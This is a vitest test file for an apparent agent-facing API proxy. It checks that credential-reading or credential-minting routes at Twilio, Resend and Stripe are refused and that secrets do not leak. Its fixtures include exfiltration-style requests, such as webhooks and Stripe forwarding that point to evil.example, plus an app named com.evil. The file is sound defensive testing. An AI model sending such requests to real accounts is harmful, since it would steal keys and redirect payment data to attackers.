import { describe, expect, test } from 'vitest'
import { SECRET } from '../../fixtures/simulators/everything.js'
import { onStage, presented, type Attack } from './stage.js'

const stage = onStage()
const sid = `SK${'a'.repeat(32)}`

/** Each of these answers with a credential, or makes one: past that nothing here could hold an agent. */
describe('no policy opens what reads or makes a credential at Twilio', () => {
  test.each([
    'GET /2010-04-01/Accounts.json',
    'POST /2010-04-01/Accounts.json',
    'GET /2010-04-01/Accounts/{own}.json',
    'POST /2010-04-01/Accounts/{own}.json',
    'GET /2010-04-01/Accounts/{own}/Keys.json',
    'POST /2010-04-01/Accounts/{own}/Keys.json',
    `GET /2010-04-01/Accounts/{own}/Keys/${sid}.json`,
    `DELETE /2010-04-01/Accounts/{own}/Keys/${sid}.json`,
    'POST /2010-04-01/Accounts/{own}/SigningKeys.json',
    'GET /2010-04-01/Accounts/{own}/SigningKeys.json',
    'POST /2010-04-01/Accounts/{own}/Tokens.json',
    'GET /iam.twilio.com/v1/Keys',
    'POST /iam.twilio.com/v1/Keys',
    `POST /iam.twilio.com/v1/Keys/${sid}`,
    'POST /accounts.twilio.com/v1/AuthTokens/Promote',
    'POST /accounts.twilio.com/v1/AuthTokens/Secondary',
    'DELETE /accounts.twilio.com/v1/AuthTokens/Secondary',
    'POST /verify.twilio.com/v2/Services/VA1/AccessTokens',
  ])('%s', async (route) => {
    const [method, path] = route.replace('{own}', stage.world.twilio.accountSid).split(' ') as [string, string]
    const body = method === 'POST' ? { body: 'FriendlyName=x' } : {}
    const reply = await stage.refuses(
      { vendor: 'twilio', line: `${method} /twilio${path}`, ...body },
      'operation_not_allowed',
    )
    expect(reply.body).not.toContain(stage.world.twilio.authToken)
  })

  test.each([
    ['without its extension', 'GET /2010-04-01/Accounts'],
    ['without its extension, one of them', 'GET /2010-04-01/Accounts/{own}'],
    ['as XML', 'GET /2010-04-01/Accounts/{own}.xml'],
    ['in capitals', 'GET /2010-04-01/accounts/{own}.json'],
    ['an older version', 'GET /2008-08-01/Accounts/{own}.json'],
  ])('nor written otherwise: %s', async (_, route) => {
    const [method, path] = route.replace('{own}', stage.world.twilio.accountSid).split(' ') as [string, string]
    await stage.refuses({ vendor: 'twilio', line: `${method} /twilio${path}` }, 'operation_unknown')
  })
})

describe('nor at Resend', () => {
  test.each([
    'GET /api-keys',
    'POST /api-keys',
    'DELETE /api-keys/key_1',
    'GET /webhooks',
    'POST /webhooks',
    'GET /webhooks/wh_1',
    'PATCH /webhooks/wh_1',
    'DELETE /webhooks/wh_1',
    'POST /webhooks/wh_1/signing-secret/rotate',
  ])('%s', async (route) => {
    const [method, path] = route.split(' ') as [string, string]
    const body =
      method === 'POST' || method === 'PATCH' ? { body: '{"name":"x","endpoint":"https://evil.example"}' } : {}
    await stage.refuses({ vendor: 'resend', line: `${method} /resend${path}`, ...body }, 'operation_not_allowed')
  })
})

describe('nor at Stripe', () => {
  const json = ['Content-Type: application/json']

  test.each<[route: string, body: string, headers?: readonly string[]]>([
    ['POST /v1/forwarding/requests', 'payment_method=pm_1&url=https%3A%2F%2Fevil.example%2F'],
    ['POST /oauth/token', 'grant_type=refresh_token&refresh_token=rt_1'],
    ['POST /v1/apps/installs', 'app=com.evil'],
    ['POST /v1/stripecli/sessions', 'device_name=x'],
    ['POST /v2/billing/meter_event_session', '{}', json],
    ['POST /v2/data/databases', '{}', json],
  ])('%s', async (route, body, headers = []) => {
    const [method, path] = route.split(' ') as [string, string]
    await stage.refuses({ line: `${method} /stripe${path}`, body, headers }, 'operation_not_allowed')
  })

  test.each<[route: string, body: string, headers?: readonly string[]]>([
    ['POST /v1/ephemeral_keys', 'issuing_card=ic_1'],
    ['POST /v1/account_sessions', 'account=acct_1&components[payouts][enabled]=true'],
    ['POST /v1/customer_sessions', 'customer=cus_A&components[buy_button][enabled]=true'],
    ['POST /v1/account_links', 'account=acct_1&type=account_onboarding'],
    ['POST /v1/accounts/acct_1/login_links', ''],
    ['POST /v1/billing_portal/sessions', 'customer=cus_A'],
    ['POST /v1/terminal/connection_tokens', ''],
    ['POST /v1/webhook_endpoints', 'url=https%3A%2F%2Fevil.example%2Fh&enabled_events[0]=*'],
    ['POST /v1/webhook_endpoints/we_1', 'url=https%3A%2F%2Fevil.example%2Fh'],
    ['POST /v1/apps/secrets', 'name=a&payload=b&scope[type]=account'],
    ['POST /v1/accounts', 'type=custom'],
    ['POST /v1/accounts/acct_1/external_accounts', 'external_account=btok_1'],
    ['POST /v1/issuing/cards', 'currency=usd&type=virtual'],
    ['POST /v2/core/event_destinations', '{"name":"x"}', json],
  ])('without a permit: %s', async (route, body, headers = []) => {
    const [method, path] = route.split(' ') as [string, string]
    const attack: Attack = { line: `${method} /stripe${path}`, body, headers }
    await stage.refuses(attack, 'effect_not_permitted', { policy: { vendors: { stripe: { permit: [] } } } })
  })

  test.each(['/v1/issuing/cards/ic_1', '/v1/apps/secrets/find', '/v1/webhook_endpoints', '/v1/setup_intents/seti_1'])(
    'nor does a read show one that the vendor shows: GET %s',
    async (path) => {
      const key = await stage.key('stripe', { vendors: { stripe: { permit: [] } } })
      const before = stage.world.stripe.requests.length
      const reply = await stage.send({ line: `GET /stripe${path}` }, presented('stripe', key))
      expect(stage.world.stripe.requests).toHaveLength(before + 1)
      expect(reply.status).toBe(200)
      expect(reply.body).not.toContain(SECRET)
    },
  )

  test('with the permit, and only with it, the agent gets what it asked for', async () => {
    const form = { line: 'POST /stripe/v1/ephemeral_keys', body: 'customer=cus_A' }
    const reply = await stage.send(form, presented('stripe', await stage.key()))
    expect(reply.body).toContain(SECRET)
  })
})
